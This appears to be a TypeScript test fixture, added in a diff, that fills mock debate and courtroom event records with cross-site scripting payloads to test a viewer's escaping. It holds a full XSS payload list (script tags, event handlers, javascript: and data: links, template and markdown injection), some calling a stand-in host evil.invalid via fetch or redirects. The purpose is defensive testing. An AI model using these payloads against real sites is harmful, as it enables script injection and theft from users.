@@ -1,0 +1,184 @@
+import type { Draft, Event } from '#record'
+
+/** Each of these would call `hit` or ask another host, were it ever taken for more than text. */
+const actions = ['globalThis.__hit=1', 'alert(1)', "fetch('https://evil.invalid/x')", 'location=`https://evil.invalid`']
+
+const shapes: readonly ((action: string) => string)[] = [
+  (act) => `<script>${act}</script>`,
+  (act) => `</p></article><script>${act}</script>`,
+  (act) => `<img src=x onerror="${act}">`,
+  (act) => `<img src="https://evil.invalid/p.png" onload="${act}">`,
+  (act) => `<svg onload="${act}"><animate onbegin="${act}"/></svg>`,
+  (act) => `<svg><script>${act}</script></svg>`,
+  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  (act) => `<iframe src="javascript:${act}"></iframe>`,
+  (act) => `<a href="javascript:${act}">press me</a>`,
+  (act) => `[press me](javascript:${act})`,
+  (act) => `[press me](data:text/html,<script>${act}</script>)`,
+  (act) => `![picture](https://evil.invalid/p.png "${act}")`,
+  (act) => `![picture](javascript:${act})`,
+  (act) => `<details open ontoggle="${act}">open</details>`,
+  (act) => `<input autofocus onfocus="${act}">`,
+  (act) => `<video src=x onerror="${act}"></video>`,
+  (act) => `<object data="javascript:${act}"></object>`,
+  (act) => `<style>@import 'https://evil.invalid/s.css';*{background:url(https://evil.invalid/b)}</style>${act}`,
+  (act) => `<link rel=stylesheet href="https://evil.invalid/s.css">${act}`,
+  (act) => `<meta http-equiv=refresh content="0;url=https://evil.invalid/">${act}`,
+  (act) => `<base href="https://evil.invalid/">${act}`,
+  (act) => `<form action="https://evil.invalid/"><button autofocus formaction="javascript:${act}">go</button></form>`,
+  (act) => `"><script>${act}</script>`,
+  (act) => `'-${act}-'`,
+  (act) => `\${${act}}`,
+  (act) => `{{constructor.constructor('${act}')()}}`,
+  (act) => `<math><mtext></mtext><mglyph><style><img src onerror="${act}"></style></mglyph></math>`,
+  (act) => `<template><script>${act}</script></template><noscript><img src=x onerror="${act}"></noscript>`,
+  (act) => `[TOOL:<img src=x onerror="${act}">]`,
+  (act) => `[TOOL:javascript:${act}]`,
+  (act) => `https://evil.invalid/?q=${encodeURIComponent(act)}`,
+  (act) => `&lt;script&gt;${act}&lt;/script&gt; &#x3C;img src=x onerror=${act}&#x3E;`,
+  (act) => `\u202e<script>${act}</script>\u0000\u001b]8;;https://evil.invalid\u0007press\u001b]8;;\u0007`,
+  (act) => `<!--<script>${act}</script>--><![CDATA[<script>${act}</script>]]>`,
+  (act) => `**<script>${act}</script>** _<img src=x onerror=${act}>_ \`${act}\``,
+]
+
+export const payloads: readonly string[] = shapes.flatMap((shape) => actions.map(shape))
+
+let turned = 0
+const next = (): string => payloads[turned++ % payloads.length]!
+
+const seat = (id: string) => ({ id, name: next(), models: [next()] })
+
+const header = (format: string, brief: object, ids: readonly string[]): Event => ({
+  type: 'header',
+  protocol: 1,
+  format,
+  version: 1,
+  title: next(),
+  seed: '1',
+  brief: JSON.parse(JSON.stringify(brief)) as never,
+  cast: ids.map(seat),
+})
+
+const words = (agent: string, content: string) => ({
+  agent,
+  content,
+  model: next(),
+  substitute: { for: next(), because: next() },
+})
+
+const turn = (agent: string, content: string): Event => ({ type: 'turn', ...words(agent, content), interrupted: false })
+const think = (agent: string): Event => ({ type: 'think', ...words(agent, next()) })
+const plan = (agent: string): Event => ({ type: 'plan', ...words(agent, next()) })
+
+const exhibit = (at: number): Event => ({
+  type: 'tool_result',
+  agent: 'researcher',
+  tool: next(),
+  result_id: `tool_${at}`,
+  title: next(),
+  source: at % 2 === 0 ? 'evil.md' : next(),
+  source_type: at % 2 === 0 ? 'document' : 'web',
+  date: '2025-01-01',
+  url: ['javascript:globalThis.__hit=1', 'data:text/html,<script>1</script>', 'https://evil.invalid/', next()][at % 4]!,
+  snippet: next(),
+  text: `${next()} The wait fell to 6 minutes. ${next()}`,
+  hash: 'f00',
+  page: null,
+  place: next(),
+  citations: null,
+})
+
+/** A decision in which everything that anybody can say is a payload. */
+export function poisonedDecision(): readonly Event[] {
+  const sides = ['defense', 'prosecution'] as const
+  const exhibits = Array.from({ length: 12 }, (_, at) => exhibit(at))
+  const spoken = payloads.flatMap((payload, at): readonly Event[] => {
+    const side = sides[at % 2]!
+    const content = `The wait fell to 6 minutes [TOOL:tool_${at % 12}]. ${payload} Nobody knows it ${next()}.`
+    return [
+      turn(side, content),
+      {
+        type: 'validation_flag',
+        agent: side,
+        claim: payload,
+        status: 'unsupported',
+        turn: at + 1,
+        start: 0,
+        end: 40,
+        reason: next(),
+      },
+    ]
+  })
+  return [
+    header('decision', { dilemma: next() }, ['clerk', 'researcher', 'defense', 'prosecution', 'judge']),
+    { type: 'document', name: 'evil.md', hash: 'f00', bytes: 1, outcome: 'read', title: next(), why: next() },
+    { type: 'document', name: next(), hash: 'f01', bytes: 1, outcome: 'damaged', why: next(), warnings: [next()] },
+    { type: 'phase_change', phase: 'INTAKE' },
+    { type: 'sources', sealed: false, tools: [], withheld: [next()], troubles: [{ source: next(), why: next() }] },
+    { type: 'case_brief', axes: [next(), `${next()} vs ${next()}`], summary: next() },
+    { type: 'phase_change', phase: 'DISCOVERY' },
+    { type: 'tool_call', agent: 'researcher', tool: next(), query: next(), status: 'pending' },
+    ...exhibits,
+    { type: 'phase_change', phase: 'DEFENSE_OPENING' },
+    ...spoken,
+    { type: 'intervention', content: next() },
+    {
+      type: 'kill_shot',
+      agent: 'defense',
+      against: 'prosecution',
+      exhibit: 'tool_1',
+      contradicts: 'tool_2',
+      reason: next(),
+      turn: 1,
+      passages: [next(), next()],
+    },
+    { type: 'concession', agent: 'defense', content: next(), turn: 1, start: 0, end: 20 },
+    { type: 'phase_change', phase: next() },
+    think('judge'),
+    {
+      type: 'verdict',
+      format: 'decision',
+      agent: 'judge',
+      finds_for: 'neither',
+      ruling: next(),
+      confidence: 40,
+      decisive_evidence: [{ id: 'tool_1', title: next(), why: next() }],
+      unresolved: [next()],
+      flip_conditions: [next()],
+    },
+    { type: 'epistemic_map', confirmed: [next()], contested: [next()], unknown: [next()] },
+    { type: 'closed', outcome: 'mistrial', cause: next() },
+  ]
+}
+
+/** The same for a debate. */
+export function poisonedDebate(): readonly Event[] {
+  const rounds = payloads.slice(0, 60).flatMap((payload, at): readonly Event[] => {
+    const agent = at % 2 === 0 ? 'a' : 'b'
+    return [
+      think(agent),
+      { type: 'hand_over', agent, task: 'respond', from: next(), model: next(), because: next() },
+      turn(agent, payload),
+      think('judge'),
+      { type: 'score', agent: 'judge', of: agent, score: 5, reasoning: next() },
+    ]
+  })
+  return [
+    header('debate', { premise: next(), turns: 60 }, ['a', 'b', 'judge']),
+    { type: 'phase_change', phase: 'planning' },
+    plan('a'),
+    plan('b'),
+    { type: 'phase_change', phase: 'exchange' },
+    ...rounds,
+    { type: 'phase_change', phase: 'verdict' },
+    { type: 'verdict', format: 'debate', agent: 'judge', winner: next(), premise_upheld: true, reasoning: next() },
+    { type: 'closed', outcome: 'verdict' },
+  ]
+}
+
+export const drafted = (events: readonly Event[]): readonly Draft[] =>
+  events.map((event, at) => ({
+    ...event,
+    to: event.type === 'think' || event.type === 'plan' || event.type === 'score' ? 'gallery' : 'open',
+    ...(event.type !== 'intervention' && event.type !== 'document' && { key: at === 0 ? 'header' : `${at}` }),
+  }))
